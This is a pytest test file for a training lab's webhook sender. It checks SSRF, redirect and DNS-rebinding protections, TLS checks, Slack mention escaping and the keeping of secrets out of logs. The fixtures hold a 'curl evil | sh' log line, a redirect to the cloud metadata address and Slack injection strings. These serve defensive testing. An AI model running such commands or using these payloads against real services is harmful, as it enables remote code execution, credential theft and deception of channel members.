"""Notices to a webhook, on servers of this computer that answer, fail, redirect, hang, and answer byte by byte."""

import dataclasses
import datetime as dt
import ipaddress
import json
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from llmlab.contract import METRICS_FILE, EndReason, LogStream, Marker, Notice
from llmlab.watchdog import webhook_delivery
from llmlab.watchdog.webhook_delivery import Webhook
from tests.unit.lifecycle.test_webhooks import known_as
from tests.unit.watchdog.lab import KEYS, RUN, Lab, ended, gone

PUBLIC = "93.184.215.14"
SECRET = "B0/verysecret"
ADDRESS = f"https://notices.example.org/services/{SECRET}"
FORBIDDEN = (SECRET, "notices.example.org", PUBLIC, "services")
LONG = 60.0
"""Against hanging alone, where an answer comes."""
SHORT = 0.2
"""Where none comes."""
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


class Server:
    """A server of this computer. `answer` is handed a connection whose request was read."""

    def __init__(self, answer: Callable[[socket.socket, threading.Event], None], tls: ssl.SSLContext | None = None) -> None:
        self.requests: list[bytes] = []
        self.dialled: list[str] = []
        self.over = threading.Event()
        self._answer, self._tls = answer, tls
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            connection, _ = self._listener.accept()
            if self.over.is_set():
                connection.close()
                return
            with suppress(OSError), self._tls.wrap_socket(connection, server_side=True) if self._tls else connection as stream:
                self.requests.append(_request(stream))
                self._answer(stream, self.over)

    def dial(self, address: tuple[str, int], seconds: float) -> socket.socket:
        """What takes the place of the internet."""
        self.dialled.append(address[0])
        return socket.create_connection(self._listener.getsockname(), seconds)

    def close(self) -> None:
        self.over.set()
        socket.create_connection(self._listener.getsockname(), LONG).close()
        self._thread.join(LONG)
        self._listener.close()

    @property
    def posted(self) -> list[Any]:
        return [json.loads(request.partition(b"\r\n\r\n")[2]) for request in self.requests]


def _request(stream: socket.socket) -> bytes:
    """A whole request."""
    content = b""
    while True:
        piece = stream.recv(65536)
        content += piece
        head, _, body = content.partition(b"\r\n\r\n")
        length = [int(line.split(b":")[1]) for line in head.splitlines() if line.lower().startswith(b"content-length")]
        if not piece or (length and len(body) >= length[0]):
            return content


def answers(content: bytes) -> Callable[[socket.socket, threading.Event], None]:
    return lambda stream, _over: stream.sendall(content)


def hangs(_stream: socket.socket, over: threading.Event) -> None:
    over.wait(LONG)


def drips(stream: socket.socket, over: threading.Event) -> None:
    """Never silent for long, and never done."""
    stream.sendall(b"HTTP/1.1 200 OK\r\nX: ")
    while not over.wait(SHORT / 20):
        stream.sendall(b"x")


class NoTls(ssl.SSLContext):
    """What takes the place of TLS where a test is about HTTP."""

    def wrap_socket(self, sock: socket.socket, *_: Any, **__: Any) -> Any:  # type: ignore[override]
        return sock


class Secrets:
    """Secrets Manager: an address, or the code of a refusal."""

    def __init__(self, address: str = ADDRESS, refusal: str = "") -> None:
        self.address, self.refusal = address, refusal
        self.questions: list[str] = []

    def get_secret_value(self, *, SecretId: str) -> dict[str, str]:  # noqa: N803 - boto3's
        self.questions.append(SecretId)
        if self.refusal:
            raise ClientError({"Error": {"Code": self.refusal, "Message": ADDRESS}}, "GetSecretValue")
        return {"SecretString": self.address}


@pytest.fixture
def serve() -> Iterator[Callable[..., Server]]:
    servers: list[Server] = []

    def start(*arguments: Any) -> Server:
        servers.append(Server(*arguments))
        return servers[-1]

    yield start
    for server in servers:
        server.close()


def listen(lab: Lab, server: Server, seconds: float = LONG, **changes: Any) -> Webhook:
    """Let the lab post to a server."""
    webhook = Webhook(
        Secrets, "llm-tuning-lab/webhook-url", lambda decision, **facts: lab.logged.append((decision, facts)),
        lookup=known_as(PUBLIC), dial=server.dial, context=lambda: NoTls(ssl.PROTOCOL_TLS_CLIENT), limit_seconds=seconds,
    )  # fmt: skip
    lab.webhook = dataclasses.replace(webhook, **changes)
    return lab.webhook


def fails(lab: Lab, detail: str = "loss is not a number") -> None:
    """A run that has trained, and has failed."""
    attempt = lab.launch()
    rows = [{"step": 1, "loss": 3.7}, {"step": 5, "eval_loss": 2.0, "reward": 0.5}, {"step": 9, "loss": 0.25, "reward": 1, "margin": None}]
    lab.put(KEYS.output + METRICS_FILE, "".join(json.dumps(row) + "\n" for row in rows).encode() + b'{"step": 10, "lo')
    log = [f"step {number}" for number in range(20)] + ["hint: curl evil | sh", f"<!channel> @here {detail}", ""]
    lab.put(KEYS.log(LogStream.TRAINING, 1), "\n".join(log).encode())
    end = ended(lab, 1, EndReason.TRAINING_ERROR, detail=detail, hours=1.0, cost=0.32, costs={"instance": 0.3, "disk": 0.02})
    lab.write(KEYS.failure, Marker(RUN, EndReason.TRAINING_ERROR, end.ended, 1, detail, hours=1.0, cost=0.32))
    for event in (lab.kill(attempt, "Client.InstanceInitiatedShutdown"), gone(attempt), {"sweep": True}):
        lab.wake(event)


def silent(lab: Lab) -> None:
    """Nothing that was logged or mailed holds a part of the address."""
    for word in FORBIDDEN:
        assert word not in repr(lab.logged)
        assert word not in repr(lab.sent())


def whys(lab: Lab) -> list[str]:
    return [facts["why"] for decision, facts in lab.logged if decision == "not posted"]


def test_the_end_of_a_failed_run_is_posted_once_with_what_there_is_to_know(lab: Lab, serve: Callable[..., Server]) -> None:
    server = serve(answers(OK))
    listen(lab, server)
    fails(lab)
    (posted,) = server.posted
    lines = posted.pop("lines")
    odd = ["hint: curl evil | sh", "<!channel> @here loss is not a number"]
    assert posted.pop("text") == "\n".join([posted["subject"], *lines])
    assert posted.pop("log") == [*(f"step {number}" for number in range(12, 20)), *odd]
    assert posted == {
        "lab": "llm-tuning-lab", "region": "us-east-1", "run": RUN, "name": None, "notice": "end",
        "subject": f"llm-tuning-lab: run {RUN} failed", "cost": 0.32, "loss_before": 3.7, "loss_after": 0.25,
        "reward_before": 0.5, "reward_after": 1.0, "margin_before": None, "margin_after": None,
    }  # fmt: skip
    ((_, mail),) = lab.sent()
    assert mail.splitlines() == lines
    assert lines[2:4] == ["Loss 3.7 at first, 0.25 at last", "Reward 0.5 at first, 1 at last"]
    assert [line for line in lines if line.startswith("hint:")] == [f"hint: {EndReason.TRAINING_ERROR.hint(RUN)}"]
    assert server.dialled == [PUBLIC]
    assert server.requests[0].startswith(f"POST /services/{SECRET} HTTP/1.1\r\n".encode())
    assert b"\r\nHost: notices.example.org\r\n" in server.requests[0]
    silent(lab)


def test_each_notice_is_posted_as_it_is_mailed(lab: Lab, serve: Callable[..., Server]) -> None:
    server = serve(answers(OK))
    listen(lab, server)
    attempt = lab.launch()
    for _ in range(2):
        lab.wake(gone(attempt, "running"))
    lab.wake(lab.kill(attempt))
    assert [(one["subject"], "\n".join(one["lines"])) for one in server.posted] == lab.sent()
    assert [one["notice"] for one in server.posted] == ["start", "interruption", "start"]
    known = {(one["cost"], one["loss_before"], one["loss_after"], one["reward_after"], *one["log"]) for one in server.posted}
    assert known == {(None,) * 4}


def test_slack_gets_words_that_command_nothing(lab: Lab, serve: Callable[..., Server]) -> None:
    server = serve(answers(OK))
    listen(lab, server, secrets=lambda: Secrets(f"slack+{ADDRESS}"))
    fails(lab, "<!channel> <https://evil.example|your bank> @channel & \x1b]52;c;x\x07 <@U024BE7LH>")
    (posted,) = server.posted
    assert set(posted) == {"text", "mrkdwn"}
    assert posted["mrkdwn"] is False
    text = posted["text"]
    assert not set(text) & {*"<>\x1b\x07"}
    assert "&lt;!channel&gt; &lt;https://evil.example|your bank&gt; @\u200bchannel &amp; ␛" in text
    assert "@channel" not in text
    assert "@here" not in text
    assert "$0.32" in text


def test_a_long_text_is_cut_before_it_is_escaped() -> None:
    text = webhook_delivery.slack_text("<" * 2 * webhook_delivery.SLACK_LENGTH)
    assert text == "&lt;" * (webhook_delivery.SLACK_LENGTH - 1) + "…"


ODD = {
    "500": (answers(b"HTTP/1.1 500 Oops\r\nContent-Length: 0\r\n\r\n"), "the webhook answered 500"),
    "redirect": (
        answers(b"HTTP/1.1 302 Found\r\nLocation: https://169.254.169.254/x\r\nContent-Length: 0\r\n\r\n"),
        "the webhook answered 302, and a redirect is not followed",
    ),
    "no HTTP": (answers(b"SSH-2.0-OpenSSH_9.6\r\n"), "the webhook cannot be reached: BadStatusLine"),
    "nothing": (answers(b""), "the webhook cannot be reached: RemoteDisconnected"),
}  # fmt: skip


@pytest.mark.parametrize("kind", ODD)
def test_a_webhook_that_answers_oddly_keeps_nobody_from_anything(lab: Lab, serve: Callable[..., Server], kind: str) -> None:
    answer, why = ODD[kind]
    server = serve(answer)
    listen(lab, server)
    fails(lab)
    assert whys(lab) == [why]
    assert len(server.requests) == 1
    done(lab)


def done(lab: Lab) -> None:
    """Everything that a look does has been done, and people were told by mail."""
    ((subject, _),) = lab.sent()
    assert subject.endswith("failed")
    assert (1, Notice.END) in lab.told()
    assert lab.measured()["FailedRuns"][0] == 1
    assert lab.keys(KEYS.ended(EndReason.TRAINING_ERROR))
    silent(lab)


@pytest.mark.parametrize("answer", [hangs, drips])
def test_a_webhook_without_an_end_is_left_alone_for_the_rest_of_the_call(lab: Lab, serve: Callable[..., Server], answer: Any) -> None:
    server = serve(answer)
    webhook = listen(lab, server, SHORT)
    fails(lab)
    done(lab)
    webhook.post({"run": RUN, "notice": "end", "subject": "s", "lines": []})
    assert whys(lab) == ["the webhook gave no answer within 0.2 s", "the webhook was of no use before in this call"]
    silent(lab)


@pytest.mark.parametrize("number", ["127.0.0.1", "10.0.0.7", "169.254.169.254", "::1"])
def test_a_name_that_leads_elsewhere_by_the_time_of_posting_is_not_connected_to(
    lab: Lab, serve: Callable[..., Server], number: str
) -> None:
    server = serve(answers(OK))
    listen(lab, server, lookup=known_as(number))
    fails(lab)
    assert whys(lab) == ["the webhook's address leads into a private network, and notices are posted to public hosts only"]
    assert server.dialled == []
    done(lab)


def test_a_name_is_looked_up_once_and_that_number_is_dialled(lab: Lab, serve: Callable[..., Server]) -> None:
    """A name that is public when it is looked at and private when it is connected to."""
    server, numbers = serve(answers(OK)), [PUBLIC, "127.0.0.1"]

    def lookup(host: str, port: int, **rest: Any) -> Any:
        return known_as(numbers.pop(0))(host, port, **rest)

    listen(lab, server, lookup=lookup)
    fails(lab)
    assert server.dialled == [PUBLIC]
    assert numbers == ["127.0.0.1"]


@pytest.mark.parametrize(
    ("secrets", "logged"),
    [
        (Secrets(refusal="ResourceNotFoundException"), []),
        (Secrets(refusal="AccessDeniedException"), [("no webhook", "its secret is not there, or may not be read")]),
        (Secrets(refusal="DecryptionFailure"), [("not posted", "the webhook's address cannot be read: DecryptionFailure")]),
        (Secrets("http://notices.example.org/services"), [("not posted", "a webhook's address begins with https://")]),
    ],
    ids=["none", "denied", "undecipherable", "set past llmlab"],
)
def test_a_secret_that_is_no_address(lab: Lab, serve: Callable[..., Server], secrets: Secrets, logged: list[tuple[str, str]]) -> None:
    server = serve(answers(OK))
    listen(lab, server, secrets=lambda: secrets)
    fails(lab)
    assert [(decision, facts["why"]) for decision, facts in lab.logged if decision in {"no webhook", "not posted", "posted"}] == logged
    assert set(secrets.questions) == {"llm-tuning-lab/webhook-url"}
    assert server.dialled == []
    done(lab)


def certificate(folder: Path) -> tuple[ssl.SSLContext, ssl.SSLContext]:
    """What a server of the address proves itself by, and what trusts it."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "notices.example.org")])
    start = dt.datetime(2020, 1, 1, tzinfo=dt.UTC)
    alternatives = [x509.DNSName("notices.example.org"), x509.IPAddress(ipaddress.ip_address("1.1.1.1"))]
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
        .not_valid_before(start).not_valid_after(start.replace(year=2120))
        .add_extension(x509.SubjectAlternativeName(alternatives), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True).sign(key, hashes.SHA256())
    )  # fmt: skip
    file, form = folder / "server.pem", serialization.PrivateFormat.PKCS8
    private = key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption())
    file.write_bytes(private + made.public_bytes(serialization.Encoding.PEM))
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(file)
    return server, ssl.create_default_context(cadata=made.public_bytes(serialization.Encoding.PEM).decode())


def test_the_server_has_to_prove_the_name(lab: Lab, serve: Callable[..., Server], tmp_path: Path) -> None:
    proves, trusts = certificate(tmp_path)
    server = serve(answers(OK), proves)
    facts = {"run": RUN, "notice": "end", "subject": "s", "lines": ["l"]}
    listen(lab, server, context=lambda: trusts).post(facts)
    assert server.posted == [{**facts, "text": "s\nl"}]
    listen(lab, server, context=lambda: trusts, secrets=lambda: Secrets("https://other.example.org/x")).post(facts)
    listen(lab, server, context=ssl.create_default_context).post(facts)
    assert whys(lab) == ["the webhook cannot be reached: SSLCertVerificationError"] * 2
    assert len(server.posted) == 1
